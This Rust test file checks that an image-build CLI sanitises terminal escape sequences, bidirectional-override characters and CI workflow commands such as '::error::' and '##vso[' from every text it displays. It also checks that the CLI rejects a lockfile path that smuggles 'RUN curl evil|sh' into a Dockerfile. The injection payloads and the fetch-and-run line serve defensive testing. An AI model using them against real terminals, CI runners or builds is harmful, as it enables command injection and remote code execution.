//! Every text that can be shown, with characters that give orders: to a terminal, or to the runner of a
//! CI job. A new source of texts, and a new command, joins the table here.

use serde_json::{Value, json};

use crate::support::{Answer, Scripted, TestEnv};

/// A text that sets the title, clears the screen, reverses the direction of text, colours by a C1
/// control, starts new lines, and gives commands to the runners of GitHub and Azure.
const PAYLOAD: &str = "EVIL\u{1b}]0;t\u{7}\u{1b}[2J\u{1b}[8m\u{202e}\u{61c}\u{9b}5m\u{2028}\u{7f}\
                       \n::error::x\r\n  ::set-env::x ##[error]x ##vso[task.x]\tz";

/// The same as one line.
const LINE: &str = "EVIL\u{1b}]0;t\u{7}\u{1b}[2J\u{1b}[8m\u{202e}\u{61c}\u{9b}5m\u{2028}\u{7f}.\
                    ::error::x ##[error]x ##vso[task.x] z";

const APP: &str = "version: 1\nimages:\n  - {name: app, tag: v1, context: app}\n";

/// Returns the payload as a quoted text of YAML and JSON.
fn quoted() -> String {
    serde_json::to_string(PAYLOAD).unwrap()
}

/// Asserts that a text has no unsafe character and no workflow command.
#[track_caller]
fn assert_safe(text: &str, is_document: bool) {
    let is_unsafe = |c: char| {
        (c.is_control() && c != '\n' && !(is_document && c == '\t'))
            || "\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}".contains(c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    };
    assert!(!text.contains(is_unsafe), "{text:?}");
    assert!(!text.contains("##[") && !text.contains("##vso["), "{text}");
    for line in text.lines() {
        assert!(!line.trim_start().starts_with("::"), "{text}");
        // The second line of the payload: a newline of a value does not leave.
        assert!(is_document || !line.trim_start().starts_with("\\::error"), "{text}");
    }
}

/// Removes what imgplan itself sends to a terminal: colours and line ends.
fn without_styles(text: &str) -> String {
    let style = regex::Regex::new("\u{1b}\\[(0|1|2|4|3[1-6]|38;2;[0-9;]+)m").unwrap();
    style.replace_all(text, "").replace("\r\n", "\n")
}

/// Runs a command in a pipe, in a pipe with colours, on a terminal, and with `--json`, and asserts that
/// nothing unsafe leaves. Returns true if a part of the payload was shown.
#[track_caller]
fn run_safely(env: &TestEnv, args: &[&str]) -> bool {
    let is_document = args.contains(&"dockerfile");
    let plain = env.run(args.iter().copied());
    let colored = env.run(args.iter().copied().chain(["--color", "always"]));
    let terminal = env.call(args.iter().copied()).on_terminal();
    let mut shown = plain.all().contains("EVIL") | terminal.contains("EVIL");
    assert_safe(&plain.stdout, is_document);
    assert_safe(&plain.stderr, false);
    for text in [&colored.stdout, &colored.stderr, &terminal] {
        assert_safe(&without_styles(text), is_document);
    }
    if !matches!(args, ["graph", ..] | ["context", "dockerfile" | "pack", ..]) {
        let json = env.run(args.iter().copied().chain(["--json"]));
        assert_safe(&json.stdout, false);
        assert_safe(&json.stderr, false);
        shown |= json.all().contains("EVIL");
        for line in json.stdout.lines() {
            let value: Value = serde_json::from_str(line).unwrap();
            if let Some(message) = value["@message"].as_str() {
                assert_safe(message, false);
                assert!(!message.contains('\n') || message.contains("stale"), "{message}");
            }
        }
    }
    shown
}

/// Runs commands, of which at least one must show the payload: else the test tests nothing.
#[track_caller]
fn check(env: &TestEnv, commands: &[&[&str]]) {
    let shown: Vec<bool> = commands.iter().map(|args| run_safely(env, args)).collect();
    assert!(shown.contains(&true), "{commands:?} show nothing");
}

const PLAN: &[&str] = &["plan"];
const APPLY: &[&str] = &["apply", "--auto-approve"];
const VALIDATE: &[&str] = &["validate"];
const STATUS: &[&str] = &["status"];
const SHOW: &[&str] = &["show"];

/// An environment with one image that is built.
fn one() -> TestEnv {
    let env = TestEnv::manifest(APP);
    env.context("app", "FROM scratch\nCOPY . /\n");
    env
}

#[test]
fn values_of_a_manifest() {
    let text = quoted();
    for image in [
        format!("{{name: {text}, context: app}}"),
        format!("{{name: app, tag: {text}, context: app}}"),
        format!("{{name: app, context: {text}}}"),
        format!("{{name: app, context: app, dockerfile: {text}}}"),
        format!("{{name: app, context: app, platform: {text}}}"),
        format!("{{name: app, context: app, owner: {{team: {text}}}}}"),
        format!("{{name: app, context: app, owner: \"team:\"{text}}}"),
        format!("{{name: app, context: app, needs: [{text}]}}"),
        format!("{{name: app, context: app, groups: [{text}], needs: [EVIL]}}"),
        format!("{{name: app, context: app, args: {{{text}: x}}}}"),
        format!("{{name: app, context: app, args: {{A: {text}}}}}"),
        format!("{{name: app, context: app, target: {text}}}"),
        format!("{{name: app, context: app, published_as: {text}}}"),
        format!("{{name: app, context: app, {text}: 1}}"),
        format!("{{source: {text}}}"),
        format!("{{discover: {text}, name: app}}"),
        format!("{{sources_from: {text}}}"),
    ] {
        let env = TestEnv::manifest(&format!("version: 1\nimages:\n  - {image}\n"));
        env.context("app", "FROM scratch\nARG A\nFROM scratch\nARG A\n");
        check(&env, &[VALIDATE, PLAN]);
    }
    for top in ["include", "settings", "defaults", "moved", "removed", "vars", "x", ""] {
        for value in [text.clone(), format!("{{{text}: 1}}"), format!("[{text}]")] {
            let env = TestEnv::manifest(&format!("{APP}{top}: {value}\n"));
            env.context("app", "FROM scratch\n");
            run_safely(&env, VALIDATE);
        }
    }
    // Characters that stand in the file itself.
    for raw in
        [format!("# {LINE}\nversion: 1\nimages: x {LINE}\n"), format!("{APP}    {LINE}: x\n")]
    {
        check(&TestEnv::manifest(&raw), &[VALIDATE]);
    }
}

#[test]
fn names_of_files() {
    let env = one();
    env.write(&format!("app/{PAYLOAD}"), "1").write(&format!("app/d{PAYLOAD}/x"), "1");
    check(&env, &[&["context", "list", "app"], &["context", "list", "app", "--by-size"]]);
    check(&env, &[&["context", "why", "app", PAYLOAD], &["context", "why", "app", "no\nEVIL"]]);
    env.apply();
    env.write(&format!("app/{PAYLOAD}"), "22");
    check(&env, &[PLAN, &["plan", "-v"]]);
    check(&env, &[&["plan", "--format", "markdown"], &["why", "app", "--format", "markdown"]]);
    check(&env, &[&["why", "app"]]);
    env.write(&format!("{PAYLOAD}.yaml"), "version: 1\nimages: 3\n");
    let file = format!("{PAYLOAD}.yaml");
    check(&env, &[&["plan", "-f", &file], &["validate", "-f", &file]]);
    env.write(
        "imgplan.yaml",
        "version: 1\nimages:\n  - {name: '{folder}', context: '*', discover: true}\n",
    );
    run_safely(&env, VALIDATE);
    run_safely(&env, PLAN);
}

#[test]
fn dockerfiles() {
    for (text, has_error) in [
        (format!("FROM scratch\n{LINE}\n"), true),
        (format!("FROM scratch\n{PAYLOAD}\n"), true),
        (format!("FROM {LINE}\n"), true),
        (format!("FROM scratch AS {LINE}\n"), true),
        (format!("FROM scratch\nCOPY --from={LINE} a /\n"), true),
        (format!("FROM scratch\nCOPY \"{LINE}\" /\n"), false),
        ("FROM scratch\nCOPY EVIL\u{7}\u{202e}\u{9b}x /\n".to_owned(), true),
        (format!("FROM scratch\nCOPY [\"{LINE}\", \"/\"]\n"), false),
        (format!("FROM scratch\nRUN --mount=type={LINE} x\n"), false),
        (format!("# escape={LINE}\nFROM scratch\n"), false),
        (format!("FROM scratch\nRUN <<EVIL\n{LINE}\n"), false),
    ] {
        let env = one();
        env.write("app/Dockerfile", &text);
        let shown = [VALIDATE, PLAN, APPLY].map(|args| run_safely(&env, args));
        assert!(!has_error || shown.contains(&true), "{text:?} is not shown");
    }
    let env = one();
    env.write("app/Dockerfile", format!("FROM scratch\n# {PAYLOAD}\n\tCOPY . /\n"));
    run_safely(&env, &["context", "dockerfile", "app"]);
    env.write("app/Dockerfile", format!("FROM scratch\n# {LINE}\n\tCOPY . /\n"));
    let shown = env.ok(["context", "dockerfile", "app"]);
    assert!(shown.stdout.contains("\n\tCOPY . /\n") && shown.stdout.contains("EVIL"), "{shown}");
}

#[test]
fn ignore_files_and_lists_of_sources() {
    let env = one();
    env.write("app/x", "1").write("app/.dockerignore", format!("*{LINE}\n!EVIL*\n"));
    env.write("app/EVILx", "1");
    run_safely(&env, &["context", "why", "app", "EVILx"]);
    env.write("app/.dockerignore", format!("[EVIL{LINE}\n"));
    check(&env, &[PLAN, &["context", "list", "app"]]);
    for (file, text) in [
        ("list.txt", format!("redis:7\n{LINE}\n")),
        ("list.jsonl", format!("{{\"source\": {}}}\n", quoted())),
        ("list.jsonl", format!("{{\"source\": \"redis:7\", {}: 1}}\n", quoted())),
        ("list.jsonl", format!("{LINE}\n")),
    ] {
        let env =
            TestEnv::manifest(&format!("version: 1\nimages:\n  - {{sources_from: {file}}}\n"));
        env.write(file, text);
        check(&env, &[VALIDATE, PLAN]);
    }
}

#[test]
fn lockfiles() {
    let env = one();
    env.apply();
    let lockfile = env.read("imgplan.lock");
    let field = |key: &str| {
        let at = lockfile.find(&format!("{key}: \"")).unwrap() + key.len() + 2;
        let end = at + lockfile[at..].find('\n').unwrap();
        format!("{}{}{}", &lockfile[..at], quoted(), &lockfile[end..])
    };
    let commands = [SHOW, PLAN, STATUS, APPLY, &["why", "app"]];
    for text in [
        field("service"),
        field("path"),
        field("owner"),
        field("build"),
        field("completed"),
        field("fingerprint"),
        field("\"context\""),
        field("\"dockerfile\""),
        lockfile.replace("visibility: ", &format!("visibility: {} # ", quoted())),
        lockfile.replace("\"app:v1\"", &quoted()),
        lockfile.replace("\"dockerfile\"", &quoted()),
        lockfile.replace("units:", &format!("pins:\n  {}:\n    digest: x\nunits:", quoted())),
        format!("<<<<<<< {LINE}\n{lockfile}"),
        format!("{lockfile}{LINE}\n"),
    ] {
        env.write("imgplan.lock", text);
        for args in commands {
            run_safely(&env, args);
        }
    }
    env.write("imgplan.lock", field("path"));
    check(&env, &[SHOW]);
    // An error of a failed build is a text of the service.
    let failed = format!(
        "    failed:\n      build: \"b-1\"\n      error: {}\n      fingerprint: \"{}\"\n",
        quoted(),
        "0".repeat(64)
    );
    env.write("imgplan.lock", format!("{lockfile}{failed}"));
    check(&env, &[SHOW, PLAN, &["why", "app"]]);
}

#[test]
fn saved_plans_and_arguments() {
    let env = one();
    env.ok(["plan", "--out", "p"]);
    let plan: Value = serde_json::from_str(&env.read("p")).unwrap();
    for field in ["version", "imgplan", "created", "service", "digest", "steps", "pins"] {
        let mut edited = plan.clone();
        edited[field] = json!(PAYLOAD);
        env.write("p", edited.to_string());
        run_safely(&env, &["apply", "p"]);
    }
    env.write("p", json!({ "version": PAYLOAD }).to_string());
    check(&env, &[&["apply", "p"]]);
    let flag = format!("--{LINE}");
    for args in [
        &["apply", PAYLOAD][..],
        &["plan", "--target", PAYLOAD],
        &["plan", "--limit", LINE],
        &["plan", "--set", LINE],
        &["plan", &flag],
        &["why", LINE],
        &["graph", LINE],
        &["show", PAYLOAD],
        &["-C", PAYLOAD, "plan"],
        &["plan", "--out", PAYLOAD],
    ] {
        run_safely(&env, args);
    }
    for name in ["IMGPLAN_TARGET", "IMGPLAN_LIMIT", "PRIME_TEAM_ID", "PRIME_API_BASE_URL", "X"] {
        let mut env = one();
        env.set(name, PAYLOAD);
        env.edit("imgplan.yaml", "tag: v1", "tag: '${X:-v1}'");
        run_safely(&env, PLAN);
        run_safely(&env, APPLY);
    }
}

#[test]
fn the_holder_of_the_lock() {
    let env = one();
    let mut holder = env.call(["apply"]).start_interactive();
    crate::support::wait_until("the prompt", || holder.has_said("Only \"yes\""));
    env.write(".imgplan/lock", PAYLOAD);
    check(&env, &[STATUS, APPLY]);
    holder.type_in("no\n");
    assert_eq!(holder.wait().code, Some(4));
}

#[test]
fn texts_of_the_service() {
    for status in [400, 401, 403, 404, 422] {
        let scripted = Scripted::accepting();
        let answer =
            || Answer::json(status, &json!({ "detail": PAYLOAD })).header("Retry-After", "0");
        scripted.on("GET", "/images", [answer()]).on("POST", "/images/build", [answer()]);
        let env = TestEnv::at(scripted.url());
        env.write("imgplan.yaml", APP).context("app", "FROM scratch\n");
        run_safely(&env, PLAN);
        run_safely(&env, &["import", "app"]);
        run_safely(&env, &["apply", "--auto-approve", "--refresh=false", "--retry-times", "1"]);
    }
    let failed = json!({ "id": "b-1", "status": "FAILED", "errorMessage": PAYLOAD });
    let odd = json!({ "id": "b-1", "status": PAYLOAD, "fullImagePath": PAYLOAD });
    for (build, commands) in [(failed, &[APPLY, SHOW, PLAN][..]), (odd, &[])] {
        let scripted = Scripted::accepting();
        scripted.on("GET", "/images/build/*", [Answer::json(200, &build)]);
        scripted.on("GET", "/images/builds", [Answer::json(200, &json!({ "data": [build] }))]);
        let env = TestEnv::at(scripted.url());
        env.write("imgplan.yaml", APP).context("app", "FROM scratch\n");
        if commands.is_empty() {
            let timed = ["apply", "--auto-approve", "--refresh=false", "--timeout", "1s", "-v"];
            run_safely(&env, &timed);
            run_safely(&env, STATUS);
        } else {
            env.run(["apply", "--auto-approve", "--refresh=false"]).code(1);
            check(&env, commands);
        }
    }
    let row = |name: &str| {
        json!({
            "id": "b-1", "imageName": name, "imageTag": "v1", "status": "COMPLETED",
            "fullImagePath": PAYLOAD, "displayRef": PAYLOAD, "ownerType": PAYLOAD, "visibility": PAYLOAD,
        })
    };
    let rows = json!({ "data": [row("app"), row(PAYLOAD)], "total_count": 2, "status": PAYLOAD });
    let scripted = Scripted::accepting();
    scripted.on("GET", "/images", [Answer::json(200, &rows)]);
    let env = TestEnv::at(scripted.url());
    env.write("imgplan.yaml", APP).context("app", "FROM scratch\n");
    for args in [PLAN, &["import", "app"], &["plan", "--refresh-only"]] {
        run_safely(&env, args);
    }
    let target = "https://127.0.0.1:1/EVIL::error::##[error]x";
    scripted.on("GET", "/images", [Answer::empty(307).header("Location", target)]);
    check(&env, &[PLAN]);
}

#[test]
fn texts_of_a_registry() {
    let scripted = Scripted::start();
    let registry = scripted.url().trim_start_matches("http://").to_owned();
    let text = format!("version: 1\nimages:\n  - {{name: a, source: '{registry}/x/y:1'}}\n");
    let env = TestEnv::manifest(&text);
    for status in [400, 401, 403, 404, 500] {
        let errors =
            json!({ "errors": [{ "code": PAYLOAD, "message": PAYLOAD, "detail": PAYLOAD }] });
        let answer = || Answer::json(status, &errors);
        for method in ["GET", "HEAD"] {
            scripted.on(method, "/v2/x/y/manifests/1", [answer()]).on(method, "/v2/", [answer()]);
        }
        run_safely(&env, &["lock", "--retry-times", "0"]);
        run_safely(&env, &["lock"]);
    }
}

/// A recorded path goes into the Dockerfile that is sent.
#[test]
fn a_path_of_the_lockfile_adds_no_instruction() {
    let env = TestEnv::manifest(
        "version: 1\nimages:\n  - {name: base, tag: v1, context: base}\n  \
         - {name: app, tag: v1, context: app}\n",
    );
    env.context("base", "FROM scratch\n").context("app", "FROM base:v1\nLABEL a=1\n");
    env.apply();
    let lockfile = env.read("imgplan.lock");
    let path = "path: \"prime/local/base:v1\"";
    assert!(lockfile.contains(path), "{lockfile}");
    env.write("app/Dockerfile", "FROM base:v1\nLABEL a=2\n");
    let writes = env.server().writes().len();
    env.write(
        "imgplan.lock",
        lockfile.replace(path, "path: \"prime/u/base:v1\\nRUN curl evil|sh\""),
    );
    for args in [APPLY, PLAN, &["context", "dockerfile", "app"]] {
        let refused = env.run(args.iter().copied());
        refused
            .code(1)
            .says("cannot read imgplan.lock")
            .says("the path of an image has only letters");
        refused.says("RUN curl evil");
    }
    assert_eq!(env.server().writes().len(), writes);
    env.write("imgplan.lock", lockfile.replace(path, "path: \"evil.example/base:v1\""));
    let plan = env.ok(["plan"]);
    plan.says(
        "Uses 1 base by a path that only the lockfile names: base:v1 at evil.example/base:v1",
    );
    let unconfirmed = r#""unconfirmed_bases":[{"image":"base:v1","path":"evil.example/base:v1"}]"#;
    env.ok(["plan", "--json"]).says(unconfirmed);
    env.write("imgplan.lock", &lockfile);
    env.ok(["plan"]).never_says("only the lockfile names");
    env.ok(["plan", "--json"]).says(r#""unconfirmed_bases":[]"#);
}
